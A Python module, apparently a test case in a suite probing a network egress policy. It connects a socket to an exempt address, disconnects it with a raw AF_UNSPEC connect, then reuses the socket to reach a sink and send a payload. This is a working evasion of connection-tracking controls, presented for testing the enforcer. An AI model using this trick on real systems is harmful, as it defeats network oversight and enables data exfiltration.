"""One socket, two connections: the first to a place that the policy exempts, the second not.

`connect(AF_UNSPEC)` ends the first; the socket, and what is known of it, stay the same.
`first`: `exempt` an address that the policy does not scan, else the sink itself.
"""

from __future__ import annotations

import socket
import struct

from attacks.connection import drained, give_up
from attacks.inner import libc
from attacks.target import Target, refused

DISCARD = 9


def main(target: Target) -> None:
    """Connect there, disconnect, connect here."""
    made = socket.socket(target.af, socket.SOCK_STREAM)
    made.settimeout(0.3)
    with refused():
        made.connect((target.args["first"], int(target.args.get("port", DISCARD))))
    unspecified = struct.pack("=H14x", socket.AF_UNSPEC)
    libc.connect(made.fileno(), unspecified, len(unspecified))
    made.settimeout(2)
    try:
        with refused():
            made.connect((target.address, target.port))
            made.sendall(target.payload)
        drained(made)
    finally:
        give_up(made)
